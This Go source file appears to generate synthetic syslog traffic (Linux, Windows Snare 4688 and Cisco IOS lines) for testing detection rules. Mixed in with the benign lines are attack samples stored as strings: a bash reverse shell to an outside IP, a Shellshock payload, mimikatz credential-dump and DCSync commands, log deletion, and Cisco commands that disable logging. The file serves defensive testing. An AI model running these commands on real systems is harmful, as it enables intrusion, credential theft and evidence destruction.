package lanes

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
)

// syslogEvent is one raw syslog line with the product and service hints
// that raw log shippers attach.
type syslogEvent struct {
	Message string `json:"message"`
	Product string `json:"product"`
	Service string `json:"service"`
}

var (
	linuxHosts = []string{"web-01", "web-02", "db-01", "build-07", "bastion-1"}
	ciscoHosts = []string{"core-sw01", "edge-rtr02", "dist-sw03"}
	snareHosts = []string{"WS-0042", "WS-1187", "SRV-FILE01", "SRV-APP02"}
	linuxUsers = []string{"alice", "bob", "deploy", "backup", "ci-runner"}
)

// linuxAttacks are service and text ({pid} a process id, {n} an uptime)
// of Linux lines that SigmaHQ keyword rules detect.
var linuxAttacks = [][2]string{
	{"sudo", "sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"},
	{"bash", "bash[{pid}]: HISTORY: PID={pid} UID=1001 python -m SimpleHTTPServer 8000"},
	{"kernel", "kernel: [{n}.000123] device eth0 entered promiscuous mode"},
	{"sshd", "sshd[{pid}]: error: key_from_blob: unknown or unsupported key type"},
	{"httpd", "httpd[{pid}]: GET /cgi-bin/status HTTP/1.1 User-Agent: () { :; }; /bin/bash -c 'id'"},
	{"bash", "bash[{pid}]: HISTORY: PID={pid} UID=0 ln -s /etc/passwd /tmp/pw"},
	{"kernel", "kernel: [{n}.004211] *** stack smashing detected ***: terminated"},
	{"bash", "bash[{pid}]: HISTORY: PID={pid} UID=0 rm -rf /var/log/syslog"},
}

var (
	windowsBenignCommands = []string{
		`C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer`,
		`C:\Windows\System32\SearchIndexer.exe /Embedding`,
		`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle`,
		`C:\Windows\System32\wbem\WmiPrvSE.exe -secured -Embedding`,
	}
	windowsAttackCommands = []string{
		`C:\Users\Public\mimikatz.exe privilege::debug sekurlsa::logonpasswords exit`,
		`C:\Users\Public\m.exe "lsadump::dcsync /domain:corp.example.com /user:krbtgt" exit`,
	}
	// Cisco IOS message texts; {p} is a port number.
	ciscoBenign = []string{
		"%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/{p}, changed state to up",
		"%LINK-3-UPDOWN: Interface GigabitEthernet0/{p}, changed state to up",
		"%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netadmin] [Source: 10.1.1.5] [localport: 22] at 10:11:12 UTC Tue Jul 28 2026",
		"%SYS-5-CONFIG_I: Configured from console by netadmin on vty0 (10.1.1.5)",
		"%OSPF-5-ADJCHG: Process 1, Nbr 10.255.0.{p} on GigabitEthernet0/{p} from LOADING to FULL, Loading Done",
	}
	ciscoAttacks = []string{
		"%PARSER-5-CFGLOG_LOGGEDCMD: User:netadmin  logged command:no logging console",
		"%AAA-5-USER_LOGGED: User netadmin executed: show running-config",
		"%AAA-5-USER_LOGGED: User netadmin executed: monitor capture point ip cef cap1 GigabitEthernet0/1 both",
	}
)

// syslogSources weighs the sources of the syslog lane.
var syslogSources = []int{6, 3, 1} // Linux, Windows (Snare), Cisco

// syslogRaw returns event i of the syslog lane: three lines a second, six
// in ten from Linux, three from Windows, one from Cisco, about attackRate
// of them attacks.
func (g *generator) syslogRaw(i int) syslogEvent {
	attack := g.chance(attackRate)
	switch g.pickWeighted(syslogSources) {
	case 0:
		host, user := pick(g, linuxHosts), pick(g, linuxUsers)
		var service, text string
		if attack {
			a := pick(g, linuxAttacks)
			service = a[0]
			text = strings.ReplaceAll(a[1], "{pid}", strconv.Itoa(g.between(300, 60000)))
			text = strings.ReplaceAll(text, "{n}", strconv.Itoa(g.between(1000, 900000)))
		} else {
			service, text = g.linuxBenign(user)
		}
		priority := pick(g, []int{38, 86, 13, 4})
		return syslogEvent{fmt.Sprintf("<%d>%s %s %s", priority, syslogTime(i), host, text), "linux", service}
	case 1:
		cmds := windowsBenignCommands
		if attack {
			cmds = windowsAttackCommands
		}
		return syslogEvent{g.snareLine(i, pick(g, cmds)), "windows", "security"}
	default:
		host := pick(g, ciscoHosts)
		texts := ciscoBenign
		if attack {
			texts = ciscoAttacks
		}
		text := strings.ReplaceAll(pick(g, texts), "{p}", strconv.Itoa(g.between(1, 48)))
		service := "syslog"
		if strings.Contains(text, "AAA") || strings.Contains(text, "PARSER") {
			service = "aaa"
		}
		seq := g.between(100000, 1000000)
		return syslogEvent{fmt.Sprintf("<189>%d: %s: %s.%03d: %s", seq, host, syslogTime(i), g.rng.IntN(1000), text), "cisco", service}
	}
}

// syslogTime is the RFC 3164 time stamp of event i: 10:00:00 on, three
// events a second.
func syslogTime(i int) string {
	s := 10*3600 + i/3
	return fmt.Sprintf("Jul 28 %02d:%02d:%02d", (s/3600)%24, (s/60)%60, s%60)
}

// address returns a random IPv4 address in the /16 net.
func (g *generator) address(net string) string {
	return fmt.Sprintf("%s.%d.%d", net, g.between(0, 255), g.between(1, 255))
}

// linuxBenign returns the service and text of an everyday Linux line.
func (g *generator) linuxBenign(user string) (string, string) {
	k := g.rng.IntN(10)
	pid := g.between(300, 60000)
	switch k {
	case 0:
		return "sshd", fmt.Sprintf("sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s",
			pid, user, g.address("10.20"), g.between(30000, 65000), g.hex(43, false))
	case 1:
		return "sshd", fmt.Sprintf("sshd[%d]: Failed password for invalid user %s from %s port %d ssh2",
			pid, pick(g, []string{"oracle", "test", "guest", "pi"}), g.address("203.0.113"), g.between(30000, 65000))
	case 2:
		return "sshd", fmt.Sprintf("sshd[%d]: pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)",
			pid, user, 1000+slices.Index(linuxUsers, user))
	case 3:
		return "sshd", fmt.Sprintf("sshd[%d]: Connection closed by %s port %d [preauth]", pid, g.address("198.51.100"), g.between(30000, 65000))
	case 4:
		return "cron", fmt.Sprintf("CRON[%d]: (root) CMD (run-parts /etc/cron.hourly)", pid)
	case 5:
		return "cron", fmt.Sprintf("CRON[%d]: pam_unix(cron:session): session closed for user root", pid)
	case 6:
		return "sudo", fmt.Sprintf("sudo: %s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
			user, g.rng.IntN(4), user)
	case 7:
		return "systemd", fmt.Sprintf("systemd[1]: Started Session %d of User %s.", g.between(1, 5000), user)
	case 8:
		return "systemd", "systemd[1]: logrotate.service: Succeeded."
	default:
		return "kernel", fmt.Sprintf("kernel: [%d.%06d] TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
			g.between(1000, 900000), g.rng.IntN(1000000))
	}
}

// snareLine returns a Windows 4688 (process creation) event as Snare
// forwards it over syslog, for the command line cmd.
func (g *generator) snareLine(i int, cmd string) string {
	host := pick(g, snareHosts)
	var image string
	if strings.HasPrefix(cmd, "C:") {
		image, _, _ = strings.Cut(cmd, " ")
	} else {
		image, _, _ = strings.Cut(cmd, `" `)
	}
	image = strings.Trim(image, `"`)
	subject := pick(g, []string{`CORP\alice`, `CORP\bob`, `NT AUTHORITY\SYSTEM`})
	pid, creator := g.hex(4, false), g.hex(4, false)
	body := fmt.Sprintf("A new process has been created.    Creator Subject:   Security ID:  %s   Account Name:  %s$   "+
		"Account Domain:  CORP   Logon ID:  0x3E7    Target Subject:   Security ID:  NULL SID   Account Name:  -   "+
		"Account Domain:  -   Logon ID:  0x0    Process Information:   New Process ID:  0x%s   New Process Name: %s   "+
		"Token Elevation Type: %%%%1936   Mandatory Label:  Mandatory Label\\Medium Mandatory Level   "+
		"Creator Process ID: 0x%s   Creator Process Name: C:\\Windows\\explorer.exe   Process Command Line: %s",
		subject, host, pid, image, creator, cmd)
	stamp := syslogTime(i)
	return fmt.Sprintf("<13>%s %s MSWinEventLog\t1\tSecurity\t%d\tTue Jul 28 %s 2026\t4688\tMicrosoft-Windows-Security-Auditing\t"+
		"N/A\tN/A\tSuccess Audit\t%s\tProcess Creation\t\t%s\t%d",
		stamp, host, 900000+i, stamp[7:], host, body, g.between(1000000, 10000000))
}
